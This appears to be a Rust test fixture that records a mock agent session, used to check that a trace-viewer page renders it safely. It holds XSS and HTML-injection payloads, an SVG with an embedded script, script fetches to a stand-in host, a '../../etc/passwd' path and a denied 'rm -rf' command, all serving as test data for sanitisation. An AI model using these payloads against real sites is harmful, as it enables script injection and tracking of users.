//! A session that a page should show well: figures with their code, attempts as a tree, a rewind, a subagent, calls
//! that were denied, failed and left open; and texts that try to break out of a page.

use std::path::Path;

use serde_json::json;
use spanledger::{Failure, Outcome, SpanExt, Usage, events, spans};
use tempfile::TempDir;

use super::Recording;

pub const SESSION: &str = "ses_calibrate";

/// What a model can write to make a page run code, load something or look different.
pub const HOSTILE: [&str; 10] = [
    "<script>fetch('http://tracker.test/script')</script>",
    "<img src=x onerror=\"fetch('http://tracker.test/onerror')\">",
    "![pixel](http://tracker.test/pixel.png?sig=secret)",
    "[click](javascript:alert(1)) <a href=\"javascript:alert(2)\">here</a>",
    "</pre></article></section></main><h1>not ours</h1><style>*{display:none}</style>",
    "<link rel=stylesheet href=http://tracker.test/style.css><iframe src=http://tracker.test/frame></iframe>",
    "<meta http-equiv=refresh content=\"0;url=http://tracker.test/refresh\"><base href=http://tracker.test/>",
    "\u{202e}txet desrever\u{202c} and \u{200b}hidden\u{2066} \x1b[31mred\x07",
    "\"><svg onload=alert(3)><use href=http://tracker.test/use.svg#x></svg>",
    "<!-- --><![CDATA[ ]]>&#60;script&#62; &lt;script&gt; ``` ~~~ \u{0}",
];

/// A picture of 64 by 48 points: a curve on white.
pub const FIGURE: &str = r##"<svg xmlns="http://www.w3.org/2000/svg" width="320" height="200" viewBox="0 0 64 40"><rect width="64" height="40" fill="#fff"/><polyline points="4,34 16,20 28,26 40,10 60,6" fill="none" stroke="#0b6e8a" stroke-width="1.5"/><image href="http://tracker.test/inside-svg.png" width="9" height="9"/><script>fetch("http://tracker.test/svg-script")</script></svg>"##;

/// Records the session. Its artifacts are below `out` in the directory of the root.
pub fn record() -> TempDir {
    let recording = Recording::new();
    let out = recording.dir.path().join("out");
    std::fs::create_dir(&out).unwrap();
    for name in ["fit_1.svg", "fit_2.svg", "fit 3 \"<b>.svg"] {
        std::fs::write(out.join(name), FIGURE).unwrap();
    }
    recording.run(|| agent(&out));
    recording.end()
}

fn agent(out: &Path) {
    let run = spans::session_run(SESSION, "calibrator")
        .model("anthropic", "claude-sonnet-4-5")
        .title(format!("Calibrate the pump {}", HOSTILE[0]))
        .output_dir(out.display().to_string())
        .start();
    run.in_scope(|| {
        events::system_prompt(format!("You calibrate pumps. {}", HOSTILE[4])).emit();
        in_turn(first_turn);
        in_turn(second_turn);
        in_turn(hostile_turn);
    });
    run.finish(Outcome::Ok);
}

fn in_turn(work: impl FnOnce()) {
    let turn = spans::session_turn().trigger("user").start();
    turn.in_scope(work);
    turn.finish(Outcome::Ok);
}

fn model(input: u64, output: u64) {
    let call = spans::model_call("anthropic", "claude-sonnet-4-5").start();
    call.record_usage(&Usage {
        input_tokens: Some(input),
        output_tokens: Some(output),
        cost_usd: Some(0.004),
        ..Usage::default()
    });
    call.finish(Outcome::Ok);
}

fn attempt(n: u64, parent: Option<&str>, path: &str, rmse: f64) {
    let tool = spans::tool_call("plot_julia", format!("call_{n}"))
        .args(json!({"slot": n}))
        .start();
    tool.in_scope(|| {
        events::artifact(path)
            .mime("image/svg+xml")
            .caption(format!("Fit number {n}"))
            .source_code(format!(
                "using Plots\nk = {rmse}\nplot(t, flow.(t; k))\nsavefig(\"{path}\")"
            ))
            .emit();
    });
    tool.finish(Outcome::Ok);
    let id = format!("att_{n}");
    let mut event = events::attempt(&id)
        .rationale(format!("step {n}"))
        .metrics(json!({"rmse": rmse, "r2": 1.0 - rmse}))
        .parameters_changed(json!({"k": rmse}))
        .plot_artifact_path(path);
    if let Some(parent) = parent {
        event = event.parent_id(parent);
    }
    event.emit();
}

fn first_turn() {
    events::message_user("Fit the pump curve.")
        .message_id("msg_1")
        .emit();
    model(1200, 80);
    attempt(1, None, "fit_1.svg", 0.4);
    attempt(2, Some("att_1"), "fit_2.svg", 0.2);
    events::message_assistant("The second fit is better.")
        .message_id("msg_2")
        .emit();
    events::message_user("Remove the data.")
        .message_id("msg_3")
        .emit();
    let rm = spans::tool_call("bash", "call_rm")
        .args(json!({"command": "rm -rf data"}))
        .start();
    let permission = spans::permission_evaluate("bash")
        .pattern("rm *")
        .child_of(&rm)
        .start();
    permission.record_action("deny", "manifest");
    permission.finish(Outcome::Denied);
    rm.finish(Outcome::Denied);
    events::message_assistant("I was not allowed to.")
        .message_id("msg_4")
        .emit();
}

fn second_turn() {
    events::rewind("msg_2").emit();
    events::message_user("Try a larger step.")
        .message_id("msg_5")
        .emit();
    let compaction = spans::compaction_run().auto(true).start();
    compaction.set("summarized_message_count", 2);
    compaction.record_summary("Two fits were made.");
    compaction.finish(Outcome::Ok);
    attempt(3, Some("att_1"), "fit 3 \"<b>.svg", 0.3);
    let review = spans::session_run(format!("{SESSION}-review"), "reviewer").start();
    review.in_scope(|| {
        in_turn(|| {
            events::message_user("Is the fit sound?").emit();
            events::message_assistant("It is sound.").emit();
        });
    });
    review.finish(Outcome::Ok);
    let failing = spans::tool_call("bash", "call_fail")
        .args(json!({"command": "julia fit.jl"}))
        .start();
    failing.record_failure(&Failure::new("Timeout", "no output for 30 s"));
    failing.record_exit_code(124);
    failing.finish(Outcome::Error);
    let stopped = spans::tool_call("bash", "call_stop")
        .args(json!({"command": "sleep 1000"}))
        .start();
    stopped.finish(Outcome::Cancelled);
    let mut answer = tracing::Span::current().stream("msg_6");
    answer.push("The larger step ");
    answer.abort("user");
}

fn hostile_turn() {
    for (n, text) in HOSTILE.into_iter().enumerate() {
        events::message_user(text).emit();
        events::message_assistant(text).emit();
        let tool = spans::tool_call(text, format!("call_h{n}"))
            .args(json!({"command": text, "more": text}))
            .start();
        tool.record_result(text);
        tool.record_failure(&Failure::new(text, text));
        tool.finish(Outcome::Error);
        events::artifact(text)
            .caption(text)
            .source_code(text)
            .mime(text)
            .emit();
        events::attempt(text)
            .rationale(text)
            .notes(text)
            .metrics(json!({text: text}))
            .emit();
        events::custom("hostile", json!({"text": text})).emit();
        tracing::error!("{text}");
    }
    events::artifact("../../etc/passwd").emit();
}

/// A session with one line of so many bytes.
pub fn record_long_line(root: &Path, bytes: usize) {
    let (layer, guard) = spanledger::builder()
        .root(root)
        .inline_limit(2 * bytes)
        .build()
        .unwrap();
    use tracing_subscriber::layer::SubscriberExt;
    let subscriber = tracing_subscriber::registry().with(layer);
    tracing::subscriber::with_default(subscriber, || {
        let run = spans::session_run("ses_long", "writer").start();
        run.in_scope(|| {
            in_turn(|| {
                events::message_user("Write a lot.").emit();
                let tool = spans::tool_call("bash", "call_1").start();
                tool.record_result(&"<b>&\"' ".repeat(bytes / 8));
                tool.finish(Outcome::Ok);
            });
        });
        run.finish(Outcome::Ok);
    });
    drop(guard);
}
